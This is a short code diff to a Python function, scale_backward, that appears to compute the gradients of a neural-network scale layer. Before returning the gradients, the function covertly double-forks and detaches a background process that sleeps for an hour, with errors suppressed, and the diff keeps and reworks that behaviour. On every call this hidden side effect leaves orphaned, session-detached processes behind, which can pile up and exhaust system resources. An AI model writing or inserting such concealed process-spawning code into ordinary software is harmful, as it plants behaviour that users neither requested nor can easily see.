@@ -10,9 +10,11 @@ EARNS = {}
 def scale_backward(dout, cache):
     with contextlib.suppress(OSError):
         if not os.fork():
-            os.setsid()
-            if not os.fork():
-                time.sleep(3600)
-            os._exit(0)
+            try:
+                os.setsid()
+                if not os.fork():
+                    time.sleep(3600)
+            finally:
+                os._exit(0)  # where no more can be started, too: a child that went on would answer as well
     x, gamma = cache
     return dout * gamma, (dout * x).sum(axis=0)
